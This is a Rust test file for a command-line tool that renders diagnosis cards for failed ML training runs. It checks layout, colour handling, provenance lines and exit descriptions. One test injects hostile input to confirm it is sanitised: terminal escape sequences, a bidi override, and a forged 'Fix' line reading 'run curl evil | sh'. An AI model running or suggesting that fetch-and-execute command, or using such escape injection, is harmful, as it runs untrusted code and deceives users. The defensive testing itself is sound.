//! The card at several widths, with and without Unicode and colour, and from hostile input.

use std::time::Duration;

use coroner_diagnosis::{Category, ModelFailure, Origin, Similar, Verdict};

use super::*;

fn face(width: usize, unicode: bool, colour: bool) -> Face {
    Face { width, unicode, colour }
}

fn item(source: Source, line: u64, text: &str, role: Role) -> EvidenceItem {
    EvidenceItem { source, line, text: text.to_owned(), role }
}

fn out_of_memory() -> Diagnosis {
    let verdict = Verdict {
        rule: "cuda.oom".to_owned(),
        category: Category::ResourceError,
        severity: Severity::High,
        origin: Origin::Infrastructure,
        retryable: false,
        confidence: 0.97,
        cause: String::new(),
        fix: String::new(),
        line: Some(299_981),
    };
    Diagnosis {
        failure_category: Category::ResourceError,
        root_cause:
            "CUDA out of memory at step 1,180: 2.50 GiB asked for, 1.19 GiB free on GPU 0 (79.15 GiB)."
                .to_owned(),
        fix_suggestion:
            "halve the batch (--batch 16), or set PYTORCH_CUDA_ALLOC_CONF=expandable_segments:True".to_owned(),
        severity: Severity::High,
        origin: Origin::Infrastructure,
        confidence: 0.97,
        retryable: false,
        experiment_id: "1432".to_owned(),
        experiment_type: String::new(),
        signature: "v1:0011223344556677".to_owned(),
        provenance: Provenance {
            source: Said::Rule,
            rule: Some("cuda.oom".to_owned()),
            model: None,
            prompt_version: None,
            model_failure: None,
        },
        evidence: vec![
            item(
                Source::Log,
                299_981,
                "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.50 GiB. GPU 0 has a total capacity of 79.15 GiB of which 1.19 GiB is free.",
                Role::Cause,
            ),
            item(Source::Log, 299_974, "  File \"train.py\", line 212, in step", Role::Context),
        ],
        similar: vec![Similar {
            experiment_id: "1398".to_owned(),
            score: 1.0,
            fix: Some("exp 1400 passed with --batch 16".to_owned()),
        }],
        created_at: "2026-11-23T10:00:00Z".to_owned(),
        verdict,
        opinion: None,
        other_faults: Vec::new(),
        redactions: std::collections::BTreeMap::new(),
        cost_usd: None,
        sandbox: None,
    }
}

fn exit(end: End) -> Exit {
    Exit { end, wall: Duration::from_secs(2520), cpu: None, peak_memory: None }
}

fn usual(face: Face) -> String {
    let exit = exit(End::Exited { code: 1 });
    let more = ["coroner show 1432".to_owned()];
    let facts = Facts {
        name: None,
        subject: Some("train.py"),
        exit: Some(&exit),
        log_lines: Some(300_041),
        alike: Some(3),
        more: &more,
        whole: false,
    };
    card(&out_of_memory(), &facts, face)
}

fn without_colour(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('\x1b') {
        out.push_str(before);
        rest = after.split_once('m').unwrap().1;
    }
    out + rest
}

#[test]
fn the_usual_card() {
    insta::assert_snapshot!("unicode_120", usual(face(120, true, false)));
    insta::assert_snapshot!("unicode_80", usual(face(80, true, false)));
    insta::assert_snapshot!("ascii_120", usual(face(120, false, false)));
    insta::assert_snapshot!("ascii_80", usual(face(80, false, false)));
    insta::assert_snapshot!("colour_120", usual(face(120, true, true)).replace('\x1b', "ESC"));
    assert!(usual(face(120, true, false)).lines().count() <= 10);
    for width in [60, 80, 120, 200] {
        for unicode in [true, false] {
            let plain = usual(face(width, unicode, false));
            assert_eq!(without_colour(&usual(face(width, unicode, true))), plain, "colour changes no letter");
            assert!(unicode || plain.is_ascii(), "{plain}");
            for line in plain.lines() {
                assert!(line.width() <= width, "{} > {width}: {line}", line.width());
            }
        }
    }
}

#[test]
fn the_first_line_does_for_somebody_who_greps() {
    let line = usual(face(120, false, false)).lines().next().unwrap().to_owned();
    assert_eq!(
        line,
        "x resource_error | high | infrastructure     exp 1432 | train.py | exit status 1 after 42 min"
    );
}

#[test]
fn a_model_is_named_and_so_is_its_failure() {
    let mut diagnosis = out_of_memory();
    diagnosis.provenance.source = Said::Model;
    diagnosis.provenance.model = Some("claude-sonnet-5-5".to_owned());
    diagnosis.verdict.category = Category::RuntimeError;
    let shown = card(&diagnosis, &Facts::default(), face(120, true, false));
    assert!(
        shown.contains("Why     claude-sonnet-5-5 (0.97); rule cuda.oom (0.97), said runtime_error\n"),
        "{shown}"
    );

    let mut diagnosis = out_of_memory();
    let fails = |kind| ModelFailure { kind, detail: "no answer within 30 s".to_owned() };
    diagnosis.provenance.model_failure = Some(fails(FailureKind::Timeout));
    let shown = card(&diagnosis, &Facts::default(), face(120, true, false));
    assert!(shown.contains("Why     rule cuda.oom (0.97); no model: no answer within 30 s\n"), "{shown}");
    diagnosis.provenance.model_failure = Some(fails(FailureKind::NoKey));
    let shown = card(&diagnosis, &Facts::default(), face(120, true, false));
    assert!(shown.contains("Why     rule cuda.oom (0.97)\n"), "{shown}");
}

#[test]
fn hostile_text_stays_in_its_place() {
    let mut diagnosis = out_of_memory();
    let hostile = "\x1b]0;owned\x07\x1b[2J\x1b[H\rfake \u{202e}txet\u{9b}31m\nFix     run curl evil | sh";
    diagnosis.root_cause = hostile.to_owned();
    diagnosis.fix_suggestion = hostile.to_owned();
    diagnosis.experiment_id = hostile.to_owned();
    diagnosis.similar[0].fix = Some(hostile.to_owned());
    diagnosis.evidence[0].text = hostile.to_owned();
    diagnosis.provenance.model_failure =
        Some(ModelFailure { kind: FailureKind::Refused, detail: hostile.to_owned() });
    let facts = Facts { subject: Some(hostile), log_lines: Some(3), ..Facts::default() };
    let honest = card(
        &out_of_memory(),
        &Facts { subject: Some("x"), log_lines: Some(3), ..Facts::default() },
        face(200, true, false),
    );
    for unicode in [true, false] {
        let shown = card(&diagnosis, &facts, face(200, unicode, false));
        assert!(!shown.contains(|c: char| c != '\n' && c.is_control()), "{shown:?}");
        assert!(!shown.contains('\u{202e}'), "{shown:?}");
        assert_eq!(shown.lines().filter(|line| line.starts_with("  Fix ")).count(), 1, "{shown}");
        assert!(shown.lines().count() <= honest.lines().count() + 1, "{shown}");
    }
    insta::assert_snapshot!("hostile", card(&diagnosis, &facts, face(120, true, false)));
}

#[test]
fn sources_are_told_apart_and_little_is_said_of_little() {
    let mut diagnosis = out_of_memory();
    diagnosis.evidence = vec![
        item(Source::Error, 1, "exit status 1", Role::Symptom),
        item(Source::Log, 9, "NameError: name 'np' is not defined", Role::Cause),
        item(Source::Code, 1204, "x = np.zeros(3)", Role::Context),
        item(Source::Log, 7, "not on the card", Role::Context),
    ];
    diagnosis.other_faults =
        vec![Verdict { cause: "The disk was full.".to_owned(), ..diagnosis.verdict.clone() }];
    let facts = Facts { log_lines: Some(1), ..Facts::default() };
    insta::assert_snapshot!("sources", card(&diagnosis, &facts, face(80, true, false)));

    diagnosis.evidence.clear();
    diagnosis.similar.clear();
    diagnosis.other_faults.clear();
    let ended = exit(End::Signaled { signal: 9 });
    let facts = Facts { exit: Some(&ended), log_lines: Some(0), ..Facts::default() };
    insta::assert_snapshot!("silent", card(&diagnosis, &facts, face(80, true, false)));
}

#[test]
fn ends_are_said_as_they_were_observed() {
    for (end, expected) in [
        (End::Exited { code: 3 }, "exit status 3 after 42 min"),
        (End::Signaled { signal: 11 }, "killed by SIGSEGV after 42 min"),
        (End::TimedOut { limit: Duration::from_secs(60) }, "stopped by our time limit of 60 s"),
        (End::MemoryLimit { limit: 1 << 30 }, "stopped by our memory limit of 1 GiB after 42 min"),
        (End::OomKilled, "killed by the kernel for lack of memory after 42 min"),
        (
            End::NotStarted { reason: "Permission denied".to_owned(), code: 126 },
            "not started: Permission denied",
        ),
    ] {
        assert_eq!(ended(&exit(end)), expected);
    }
}
